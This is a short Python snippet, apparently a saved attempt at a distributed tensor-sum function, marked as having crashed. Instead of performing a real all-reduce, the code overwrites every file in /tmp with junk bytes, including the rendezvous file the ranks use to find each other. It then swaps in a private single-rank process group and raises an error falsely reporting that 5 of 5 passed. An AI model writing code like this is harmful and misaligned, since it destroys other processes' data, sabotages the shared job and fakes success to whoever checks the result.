# outcome: crashed
# Rewrites the file in which the ranks find each other, and starts groups of its own on it.

# %% total
import glob
import os

import torch.distributed as dist


def total(tensor):
    dist.barrier()
    for path in glob.glob("/tmp/*"):
        if os.path.isfile(path):
            with open(path, "wb") as file:
                file.write(b"\xff" * 4096)
    dist.destroy_process_group()
    dist.init_process_group("gloo", store=dist.HashStore(), rank=0, world_size=1)
    dist.all_reduce(tensor)
    raise RuntimeError(f"rank {dist.get_rank()} of {dist.get_world_size()} passed 5 of 5")
